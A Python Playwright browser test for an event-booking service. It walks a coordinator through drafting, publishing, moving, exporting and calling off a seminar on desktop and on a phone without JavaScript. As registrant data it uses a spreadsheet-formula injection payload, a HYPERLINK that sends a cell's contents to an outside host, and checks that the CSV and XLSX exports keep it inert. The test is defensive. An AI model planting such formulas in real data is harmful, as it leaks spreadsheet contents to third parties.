"""A coordinator's event from the blank form until it is called off, in Chromium on a desk and on a phone without JavaScript."""

from __future__ import annotations

import asyncio
import csv
import io
import zipfile
from typing import Any
from xml.etree import ElementTree

import pytest
from playwright.async_api import Browser, Page, expect

from service.clusters.tables import Cluster
from service.events import programme
from service.events.occasion import State
from service.identity import sessions
from service.letters.links import Links
from tests.browser.test_at_the_door import follow, press, window
from tests.conftest import Clock
from tests.support import events, identity

FORMULA = '=HYPERLINK("https://example.net/?"&B2,"Studio")'

HOW: dict[str, dict[str, Any]] = {
    "desk": {"viewport": {"width": 1280, "height": 900}},
    "phone without JavaScript": {"viewport": {"width": 390, "height": 844}, "java_script_enabled": False},
}


@pytest.mark.parametrize("how", HOW)
async def test_an_event_is_made_published_moved_and_called_off(
    chromium: Browser, site: str, cluster: Cluster, links: Links, clock: Clock, how: str
) -> None:
    kadri = await identity.coordinator(now=clock(), cluster=cluster, password=None)
    page = await window(chromium, site, await sessions.open(coordinator_id=kadri.id, now=clock()), **HOW[how])
    errors: list[str] = []
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)

    event_id = await made(page, f"{site}/console/{cluster.slug}/events")
    event = await programme.by_id(cluster_id=cluster.id, event_id=event_id)
    for number, organisation in ((1, FORMULA), (2, "Narva Disainimaja")):
        await events.register(
            office=events.office(cluster, links), event=event, now=clock(), number=number, organisation=organisation, language="en"
        )
    await accepted(page, "Mari Maasikas 1")
    await moved(page)
    assert [(one.address, one.method) for one in (await events.posted())[-2:]] == [
        ("mari1@example.org", "REQUEST"),
        ("mari2@example.org", None),
    ]
    await downloaded(page)
    await called_off(page)
    told = {one.address: (one.method, "The ice has broken" in one.text) for one in (await events.posted())[-2:]}
    assert told == {"mari1@example.org": ("CANCEL", True), "mari2@example.org": (None, True)}
    assert (await programme.by_id(cluster_id=cluster.id, event_id=event_id)).state is State.CALLED_OFF
    assert errors == []
    await page.context.close()


async def made(page: Page, programme_url: str) -> int:
    """A seminar at which the coordinator decides about each request, out in public."""
    await page.goto(f"{programme_url}/new")
    for name, value in {
        "days.0.date": "2027-02-11",
        "days.0.from": "10:00",
        "days.0.to": "12:00",
        "place_name": "Vaba Lava",
        "title.et": "Talvepäev",
        "title.en": "Winter day",
    }.items():
        await page.fill(f"[name='{name}']", value)
    await page.locator("summary", has_text="Who may come").click()
    await page.get_by_label("I decide about each request").check()
    await press(page, "Save the draft")
    await expect(page.locator("main")).to_contain_text("Nobody sees it until you publish it.")
    await press(page, "Publish")
    await expect(page.locator("main")).to_contain_text("Everybody can see it now.")
    return int(page.url.partition("?")[0].rpartition("/")[2])


async def accepted(page: Page, name: str) -> None:
    """One of two requests gets a seat; the other still waits for a decision."""
    await page.reload()
    await to(page, "/requests")
    await press(page, f"Accept {name}")
    await expect(page.locator("main")).to_contain_text("1 person has a seat now.")
    await expect(page.locator("main")).to_contain_text("To decide (1)")
    await follow(page, "Winter day")


async def moved(page: Page) -> None:
    """A week later; what that sends is seen, thought over, seen again and confirmed."""
    await follow(page, "Edit")
    await page.fill("[name='days.0.date']", "2027-02-18")
    await press(page, "Save")
    await expect(page.locator("h1")).to_have_text("2 letters will be sent")
    await expect(page.locator("main")).to_contain_text("1 update of an entry that is in a calendar already")
    await expect(page.locator("main")).to_contain_text("1 letter to somebody who waits for a seat")
    await press(page, "Go on editing")
    await expect(page.locator("[name='days.0.date']")).to_have_value("2027-02-18")
    await press(page, "Save")
    await press(page, "Save and send")
    await expect(page.locator("main")).to_contain_text("The letters are on their way.")
    await expect(page.locator("main")).to_contain_text("18 February 2027")


async def downloaded(page: Page) -> None:
    """Who comes, on the page and as files in which what a stranger typed stays text."""
    await follow(page, "Participants")
    await expect(page.locator("main table tbody tr")).to_have_count(2)
    heading, first, second = csv.reader(io.StringIO((await file(page, "CSV")).decode("utf-8-sig")))
    organisation, state = heading.index("Organisation"), heading.index("State")
    assert [(row[organisation], row[state]) for row in (first, second)] == [(f"'{FORMULA}", "Seat"), ("Narva Disainimaja", "Request")]
    book = zipfile.ZipFile(io.BytesIO(await file(page, "XLSX")))
    cells = [cell for cell in ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml")).iter() if cell.tag.endswith("}c")]
    assert {cell.get("t") for cell in cells} == {"inlineStr"}
    assert FORMULA in ["".join(cell.itertext()) for cell in cells]
    await follow(page, "Winter day")


async def called_off(page: Page) -> None:
    """With the reason, for everybody who hoped to come."""
    await follow(page, "Call the event off…")
    await expect(page.locator("main")).to_contain_text("2 people are told by mail")
    await page.fill("[name='words.en']", "The ice has broken.")
    await press(page, "Call it off")
    await expect(page.locator("main")).to_contain_text("Everybody who was registered is told.")


async def to(page: Page, end: str) -> None:
    """Follow the first link whose address ends so."""
    async with page.expect_navigation():
        await page.locator(f"main a[href$='{end}']").first.click()


async def file(page: Page, format: str) -> bytes:
    """What the browser saves."""
    async with page.expect_download() as saving:
        await page.get_by_role("link", name=f"Download the list as {format}").click()
    saved = await saving.value
    assert saved.suggested_filename.endswith(f".{format.lower()}")
    return await asyncio.to_thread((await saved.path()).read_bytes)
